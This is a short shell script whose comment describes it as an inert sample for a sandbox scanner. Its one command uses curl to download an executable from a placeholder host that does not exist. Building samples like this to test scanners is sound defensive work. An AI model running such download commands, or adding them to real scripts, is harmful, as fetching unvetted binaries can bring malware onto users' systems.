#!/bin/sh
# Inert sample for the sandbox scanner: a script that would fetch a binary (the host does not exist).
curl -o helper.exe https://example.invalid/tools/helper.exe
